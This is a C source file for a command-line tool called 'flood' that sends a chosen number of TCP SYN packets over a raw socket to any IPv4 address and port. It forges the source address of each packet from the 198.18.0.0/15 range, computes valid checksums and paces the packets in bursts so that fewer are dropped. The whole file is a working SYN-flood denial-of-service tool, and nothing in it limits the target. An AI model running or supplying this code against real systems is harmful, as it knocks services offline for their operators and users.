/*
 * Half-open connections: COUNT SYNs to an IPv4 address and port, each from an address of 198.18.0.0/15 that never answers.
 *
 *   flood ADDRESS PORT COUNT
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Packets in a row before a pause, and the pause in microseconds: queues on the way hold about a thousand. */
#define BURST 50
#define PAUSE 2000

static uint16_t checksum(const void *bytes, size_t length, uint32_t total) {
  const uint8_t *at = bytes;
  for (; length > 1; length -= 2, at += 2) total += (uint32_t)(at[0] << 8 | at[1]);
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return htons((uint16_t)~total);
}

int main(int count, char **arguments) {
  struct { struct iphdr ip; struct tcphdr tcp; } packet;
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (count != 4 || inet_pton(AF_INET, arguments[1], &to.sin_addr) != 1) return 2;
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return perror("socket"), 1;
  long packets = atol(arguments[3]);
  for (long number = 0; number < packets; number++) {
    uint32_t source = htonl(0xc6120001u + (uint32_t)(number % 65000));
    memset(&packet, 0, sizeof packet);
    packet.ip.version = 4;
    packet.ip.ihl = 5;
    packet.ip.ttl = 64;
    packet.ip.protocol = IPPROTO_TCP;
    packet.ip.tot_len = htons(sizeof packet);
    packet.ip.saddr = source;
    packet.ip.daddr = to.sin_addr.s_addr;
    packet.tcp.source = htons((uint16_t)(1024 + number % 60000));
    packet.tcp.dest = htons((uint16_t)atoi(arguments[2]));
    packet.tcp.seq = htonl((uint32_t)number * 2654435761u);
    packet.tcp.syn = 1;
    packet.tcp.doff = 5;
    packet.tcp.window = htons(65535);
    uint32_t pseudo = IPPROTO_TCP + sizeof packet.tcp;
    const uint8_t *addresses = (const uint8_t *)&packet.ip.saddr;
    for (int index = 0; index < 8; index += 2) pseudo += (uint32_t)(addresses[index] << 8 | addresses[index + 1]);
    packet.tcp.check = checksum(&packet.tcp, sizeof packet.tcp, pseudo);
    if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0) return perror("sendto"), 1;
    if (number % BURST == BURST - 1) usleep(PAUSE);
  }
  return 0;
}
